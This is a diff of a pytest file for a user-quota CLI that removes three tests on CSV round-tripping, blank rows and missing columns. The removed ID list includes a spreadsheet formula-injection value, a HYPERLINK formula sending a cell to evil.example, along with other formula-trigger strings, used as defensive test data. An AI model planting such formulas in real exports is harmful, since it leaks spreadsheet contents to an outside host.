@@ -125,43 +125,6 @@ def test_lowering_an_overcommitted_pool_is_allowed(run, builder, work):
     assert run("users", "plan", roster(work / "u.csv", "there,1400")).code == 0
 
 
-ODD_IDS = [
-    "plain",
-    '=HYPERLINK("http://evil.example/?"&A1)',
-    "+1+1",
-    "-2",
-    "@SUM(1)",
-    "'=1",
-    "00123",
-    "4e872096",
-    "TRUE",
-    "1.0",
-    'say "hi", twice',
-    "semi;colon",
-    " edge ",
-    "\t=1",
-    "two\nlines",
-    "snöwman ☃ مرحبا",
-]
-
-
-@pytest.mark.parametrize("how", [["-o", "csv"], ["--json"], ["-o", "jsonl"]])
-def test_listing_is_a_file_without_a_change(run, builder, work, how):
-    """Also with ids that a spreadsheet would run or reshape."""
-    for number, name in enumerate(ODD_IDS):
-        builder.add(name, number + 1)
-    builder.add(None, 5)
-    builder.add("unlimited", None)
-    file = work / "export"
-    file.write_bytes(run("users", "list", *how).out_bytes)
-
-    completed = run("users", "plan", str(file), "--prune", "--exit-code", "--json")
-
-    assert completed.code == 0, completed
-    assert completed.json["actions"] == []
-    assert completed.json["summary"]["unchanged"] == len(ODD_IDS) + 2
-
-
 @pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
 def test_what_a_spreadsheet_saves_means_the_same(run, builder, work, encoding, delimiter):
@@ -174,24 +137,6 @@ def test_what_a_spreadsheet_saves_means_the_same(run, builder, work, encoding, d
 
     found = [(a["external_id"], a["after"]) for a in plan["actions"]]
     assert found == [("neu", {"qps_limit": 7})]
-
-
-def test_blank_rows_and_tolerant_headers(run, work):
-    """Lines of nothing are no rows."""
-    file = roster(work / "u.csv", "u1,", "", ",", "u2,5", header=" External_ID , QPS Limit ")
-
-    plan = run("users", "plan", file, "--json").json
-
-    assert [(a["row"], a["external_id"]) for a in plan["actions"]] == [(2, "u1"), (5, "u2")]
-
-
-def test_file_without_the_column_says_what_it_saw(run, builder, work):
-    """Never `0 rows, success`."""
-    completed = run("users", "plan", roster(work / "u.csv", "u1|5", header="external_id|qps_limit"))
-
-    assert completed.code == 2
-    assert "external_id|qps_limit" in completed.err
-    assert builder.requests == []
 
 
 def test_prune_adds_everyone_who_is_not_in_the_file(run, builder, work):
